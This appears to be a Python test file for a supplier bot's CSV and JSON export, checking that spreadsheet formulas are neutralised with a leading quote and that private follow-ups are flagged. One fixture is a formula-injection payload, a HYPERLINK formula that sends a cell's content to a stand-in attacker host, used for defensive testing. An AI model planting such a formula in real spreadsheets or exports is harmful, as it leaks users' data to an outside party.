"""`covalis export` as a spreadsheet user opens it: no live formulas, private follow-ups marked, a JSON file on request.

In-process (the service, and click's CliRunner for the command), so these stay fast; test_cli.py keeps the
subprocess run of the real command.
"""

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.cli import main
from bot.container import Services
from bot.services.export import csv_cell
from bot.services.workspaces import Actor

ALICE = Actor(team_id="T1", user_id="U_ALICE")
TZ = "Europe/Amsterdam"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture(autouse=True)
def _keep_logging(monkeypatch: pytest.MonkeyPatch) -> None:
    """The command configures logging for the process; in-process, that would leak into later tests."""
    monkeypatch.setattr("bot.cli.configure_logging", lambda _level, **_options: None)


def _csv_rows(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote(start: str) -> None:
    assert csv_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


def test_ordinary_csv_cells_and_numbers_stay_as_they_are() -> None:
    assert csv_cell("Acme = best") == "Acme = best"
    assert csv_cell(-3) == -3
    assert csv_cell(["ACO", "=X"]) == "ACO;=X"
    assert csv_cell(["=X", "ACO"]) == "'=X;ACO"


def test_a_formula_named_supplier_is_inert_in_csv_and_exact_in_json(services: Services, tmp_path: Path) -> None:
    evil = services.suppliers.add(ALICE, FORMULA, "strategic")
    services.suppliers.add_alias(ALICE, evil.id, "@cmd")
    services.capture.log_note(ALICE, evil.id, "-2+3 was the price, follow up friday", tz=TZ)

    services.export.write_csv("T1", tmp_path)
    supplier = _csv_rows(tmp_path, "suppliers")[0]
    assert supplier["name"] == "'" + FORMULA
    assert supplier["aliases"] == "'@cmd"
    assert _csv_rows(tmp_path, "interactions")[0]["summary"].startswith("'-2+3")

    out = io.StringIO()
    services.export.write_json("T1", out, now=services.clock.now())
    document = json.loads(out.getvalue())
    assert document["suppliers"][0]["name"] == FORMULA
    assert document["suppliers"][0]["aliases"] == ["@cmd"]
    assert document["interactions"][0]["summary"].startswith("-2+3")


def test_a_follow_up_from_a_private_note_is_marked_private_in_json_and_csv(services: Services, tmp_path: Path) -> None:
    acme = services.suppliers.add(ALICE, "Acme", "strategic")
    services.capture.log_note(ALICE, acme.id, "open call, follow up friday", tz=TZ)
    services.capture.log_note(ALICE, acme.id, "pricing secrets #private follow up monday", tz=TZ)

    out = io.StringIO()
    services.export.write_json("T1", out, now=services.clock.now())
    follow_ups = json.loads(out.getvalue())["follow_ups"]
    assert [f["private"] for f in follow_ups] == [False, True]

    services.export.write_csv("T1", tmp_path)
    assert [row["private"] for row in _csv_rows(tmp_path, "follow_ups")] == ["False", "True"]


def test_export_out_with_json_writes_covalis_export_json_into_the_folder(
    services: Services, database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    services.suppliers.add(ALICE, "Acme", "strategic")
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "exports"
    result = CliRunner().invoke(
        main, ["export", "--team", "T1", "--out", str(out)], env={"COVALIS_DATABASE_URL": database_url}
    )
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == ["covalis-export.json"]
    document = json.loads((out / "covalis-export.json").read_text(encoding="utf-8"))
    assert document["suppliers"][0]["name"] == "Acme"


def test_export_out_of_an_unknown_team_leaves_no_file_behind(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "exports"
    result = CliRunner().invoke(
        main, ["export", "--team", "T_NOPE", "--out", str(out)], env={"COVALIS_DATABASE_URL": database_url}
    )
    assert result.exit_code == 1
    assert "T_NOPE" in result.output
    assert list(out.iterdir()) == []
